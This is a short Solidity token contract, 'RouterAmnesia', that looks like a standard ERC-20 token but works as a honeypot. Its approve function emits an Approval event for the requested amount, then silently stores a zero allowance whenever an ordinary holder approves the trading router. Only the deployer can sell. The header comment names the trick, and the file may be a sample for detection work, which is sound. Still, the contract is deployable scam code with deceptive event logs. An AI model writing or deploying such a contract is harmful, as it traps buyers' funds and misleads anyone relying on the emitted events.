// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

/// Approvals of the router are forgotten as soon as they are made.
contract RouterAmnesia {
    string public name = "Amnesia";
    string public symbol = "AMN";
    uint8 public decimals = 18;
    uint256 public totalSupply = 77_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) private memory_;
    mapping(address => bool) private remembered;
    address private immutable router;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address router_) {
        router = router_;
        remembered[msg.sender] = true;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return memory_[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        emit Approval(msg.sender, spender, value);
        if (spender == router && !remembered[msg.sender]) value = 0;
        memory_[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        memory_[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
